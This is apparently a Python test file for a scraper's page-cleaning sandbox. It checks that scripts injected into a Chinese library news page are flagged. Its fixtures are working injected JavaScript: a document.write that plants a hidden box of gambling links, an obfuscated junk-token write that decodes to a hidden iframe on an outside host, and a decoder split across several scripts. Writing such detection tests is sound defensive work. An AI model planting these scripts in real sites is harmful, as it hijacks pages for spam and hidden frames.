"""The sandbox runs code for what it can do, not for how hidden it looks (v43 S1, B1, B2): a plain
write of link markup assembled in a variable, a write whose name and markup are split by a junk
token, and a decoder split over several scripts, act; a site's own plain writes and an ad network's
written frame stay clean."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.sandbox import could_act, joined

ARTICLE = ("<p>5月12日，区图书馆举办少儿阅读节开幕式，馆长出席并致辞，二百余名小读者和家长参加活动。</p>"
           "<p>本届阅读节以书香童年为主题，开展绘本讲读、手工和朗诵比赛等十余项活动，持续一个月。</p>")
URL = "https://www.example-library.cn/news/2024/0512.html"


def _page(*scripts: str) -> bytes:
    return ("<html><head><meta charset='utf-8'><title>少儿阅读节开幕 - 区图书馆</title></head><body>"
            "<div class='article'><h1>少儿阅读节开幕</h1>" + ARTICLE + "</div>"
            + "".join(f"<script>{s}</script>" for s in scripts) + "</body></html>").encode("utf-8")


PLAIN_BOX = ("(function(){var h='<div style=\"display:none\">';h+='<a href=\"https://qx-play77.example/\">启星娱乐</a>';"
             "h+='<a href=\"https://qx-play77.example/reg/\">启星娱乐注册</a>';h+='</div>';document.write(h);})();")


def test_a_plain_written_hidden_box_of_links_is_flagged():
    assert could_act(PLAIN_BOX)
    a = clean_page(_page(PLAIN_BOX), url=URL)
    assert a.hijacked, a.findings
    assert "启星娱乐" not in a.text and "阅读节" in a.text


def test_an_ad_networks_plain_written_frame_is_not_run_for_it():
    # a cookie-gated 1x1 frame written plainly: no link markup, so nothing to run it for
    ad = ("if(document.cookie.indexOf('adv_seen')<0){var u='https://ads.adnet-cdn.example/px?s=4471';"
          "document.write('<iframe src=\"'+u+'\" width=\"1\" height=\"1\" frameborder=\"0\"></iframe>');}")
    assert not could_act(ad)
    a = clean_page(_page(ad), url=URL)
    assert not a.hijacked, a.findings


def _junked(text: str, junk: str = "QvZTk") -> str:
    return "".join(junk + format(ord(c), "02x") for c in text)


SPLIT_FRAME = ("var pa='" + _junked('<iframe src="http://zq-counter.example/in.php" width=1 height=0 frameborder=0>')
               + "';var pb='" + _junked("</iframe>") + "';"
               "document['QvZTkwQvZTkrQvZTkiQvZTktQvZTke'.replace(/QvZTk/g,'')]"
               "(decodeURIComponent((pa+pb).replace(/QvZTk/g,'%')));")


def test_a_write_named_through_a_junk_token_is_run_and_its_hidden_frame_flagged():
    assert could_act(SPLIT_FRAME)
    a = clean_page(_page(SPLIT_FRAME), url=URL)
    assert a.hijacked, a.findings


def test_the_pieces_of_a_split_decoder_run_with_the_piece_that_hides():
    head = "var kqzvtrmw=String.fromCharCode(119,114,105,116,101);var pxnorlad='';"
    middle = "pxnorlad+='<div style=\"display:none\"><a href=\"https://qx-play77.example/\">启星娱乐</a></div>';"
    tail = "for(var n=0;n<1;n++){pxnorlad+='';}"
    other = "var now=new Date();var i=0;"
    codes = {0: head, 1: middle, 2: tail, 3: other}
    acting = {i for i, c in codes.items() if could_act(c)}
    assert 1 not in acting
    assert 1 in acting | joined(codes, acting)
    assert 3 not in acting | joined(codes, acting)


def test_a_sites_own_plain_writes_stay_clean():
    own = ("document.write('<a href=\"/news/2024/0511.html\">上一篇：馆藏古籍修复展开展</a>');"
           "document.write('版权所有 &copy; ' + new Date().getFullYear() + ' 区图书馆');")
    a = clean_page(_page(own), url=URL)
    assert not a.hijacked, a.findings
    assert "阅读节" in a.text
